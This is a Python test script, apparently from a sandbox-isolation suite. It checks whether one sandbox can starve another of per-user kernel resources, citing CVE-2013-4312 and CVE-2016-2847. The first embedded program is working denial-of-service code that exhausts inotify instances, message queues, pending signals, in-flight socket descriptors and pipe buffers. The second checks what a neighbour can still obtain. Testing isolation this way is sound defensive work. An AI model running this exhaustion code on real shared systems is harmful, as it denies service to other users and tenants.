#!/usr/bin/env python3
# attack: use up what the kernel counts by user, so that another sandbox gets none
# tries: takes all inotify instances and watches, pipe pages, descriptors in flight over Unix sockets, queue bytes, pending signals
#   and locked memory that the user may have, and holds them; another sandbox then takes a little of each.
# source: field notes 5b 50 and 59; CVE-2013-4312 (descriptors in flight), CVE-2016-2847 (pipe buffers by user)
# expect: the other sandbox gets what it asks for
# stopped-by: user_namespace
# control: own
# variants: server-privileged
# needs: python3
# on: host
import os
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
sys.path[:0] = [HERE + "/lib", HERE + "/../lib"]
from two_runs import side_by_side

FIRST = r"""
import array, ctypes, fcntl, os, socket, sys
c, rt = ctypes.CDLL(None), ctypes.CDLL("librt.so.1")
keep = []
for _ in range(140):
    if c.inotify_init1(0) < 0: break
rt.mq_open.argtypes = [ctypes.c_char_p, ctypes.c_int, ctypes.c_uint, ctypes.c_void_p]
for number in range(200):
    if rt.mq_open(b"/q%d" % number, os.O_RDWR | os.O_CREAT, 0o600, (ctypes.c_long * 8)(0, 10, 4096)) < 0: break
signals = (ctypes.c_ulong * 16)(0xffffffffffffffff)
c.sigprocmask(0, ctypes.byref(signals), None)
while c.sigqueue(os.getpid(), 40, None) == 0: pass
# In flight: sockets whose own ends are in their queues.
for _ in range(8):
    a, b = socket.socketpair(socket.AF_UNIX, socket.SOCK_DGRAM)
    try:
        while True: a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [a.fileno()] * 200))], socket.MSG_DONTWAIT)
    except OSError: pass
    keep += [a, b]
try:
    while True:
        r, w = os.pipe()
        try: fcntl.fcntl(w, 1031, 1 << 20)
        except OSError: pass
except OSError: pass
print("ready", flush=True)
sys.stdin.read()
"""

SECOND = r"""
import array, ctypes, fcntl, os, socket
c, rt = ctypes.CDLL(None), ctypes.CDLL("librt.so.1")
if c.inotify_init1(0) < 0: print("found: no inotify instance left")
if rt.mq_open(b"/mine", os.O_RDWR | os.O_CREAT, 0o600, None) < 0: print("found: no queue left")
signals = (ctypes.c_ulong * 16)(1 << 39)
c.sigprocmask(0, ctypes.byref(signals), None)
if c.sigqueue(os.getpid(), 40, None) != 0: print("found: no pending signal left")
r, w = os.pipe()
if fcntl.fcntl(w, 1032) < 65536: print("found: pipes are shortened to", fcntl.fcntl(w, 1032))
a, b = socket.socketpair()
try: a.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [0]))])
except OSError as error: print("found: no descriptor can be sent:", error.errno)
print("searched")
"""

side_by_side(FIRST, SECOND)
